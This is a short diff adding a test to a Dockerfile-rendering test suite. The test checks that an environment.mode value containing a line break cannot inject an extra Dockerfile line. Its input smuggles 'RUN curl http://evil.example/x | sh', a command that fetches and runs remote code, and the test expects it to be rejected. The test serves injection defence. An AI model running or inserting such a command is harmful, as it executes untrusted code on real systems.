@@ -126,6 +126,11 @@ describe("a bundle's environment.mode", () => {
     expect(render).toThrow(UserError);
   });
 
+  it('with a line break never adds a Dockerfile line of its own, even past the manifest check', () => {
+    const render = () => renderDockerfile({ manifest: { version: 'abc', environment: { mode: 'venv\nRUN curl http://evil.example/x | sh' }, dependencies: { local_packaged_env: true } } as never, name: 'rt', env: {} });
+    expect(render).toThrow(/control character/);
+  });
+
   it('is named in at most a short line when no backend claims it', () => {
     let message = '';
     try {
